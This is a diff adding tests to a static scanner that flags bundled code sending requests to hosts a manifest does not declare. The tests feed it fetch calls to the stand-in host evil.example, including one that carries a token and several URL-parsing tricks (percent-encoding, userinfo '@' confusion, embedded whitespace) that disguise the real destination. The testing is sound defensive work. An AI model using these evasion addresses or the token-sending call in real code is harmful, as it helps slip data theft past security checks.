@@ -79,4 +79,31 @@ describe('The static scan', function () {
     expect(shown).to.include.members(['fetch("https://evil.example/?token=…', "eval('…"]);
     for (const secret of [GITHUB_TOKEN, password]) expect(JSON.stringify(findings)).to.not.include(secret.slice(4, 12));
   });
+
+  it('reads addresses as fetch does', async () => {
+    const declared = 'https://api.example.com';
+    for (const address of [
+      'https:/evil.example/',
+      'https:evil.example/',
+      'ht\ntps://evil.example/',
+      'https://%65vil.example/',
+      `${declared}\t@evil.example/`,
+      `${declared}@api.example.com@evil.example/`,
+    ]) {
+      const findings = await scan(bundle('', `return fetch(${JSON.stringify(address)});`));
+      expect(findings[0]?.explanation, address).to.equal(
+        'It sends to evil.example, which the manifest does not declare.',
+      );
+    }
+    const same = await scan(bundle('', `return fetch(${JSON.stringify(`${declared}\\@evil.example/`)});`));
+    expect(same).to.deep.equal([]);
+  });
+
+  it('takes no half of a host for a host', async () => {
+    const sent = async (address: string) => (await scan(bundle('', `return fetch(${address});`))).length;
+    expect(await sent('`https://eu-${request.url.length}.shop.example/orders`')).to.equal(0);
+    expect(await sent('"https://eu" + request.url.length + ".shop.example/orders"')).to.equal(0);
+    expect(await sent('"https://evil.example" + request.url')).to.equal(1);
+    expect(await sent('`https://evil/${request.url}`')).to.equal(1);
+  });
 });
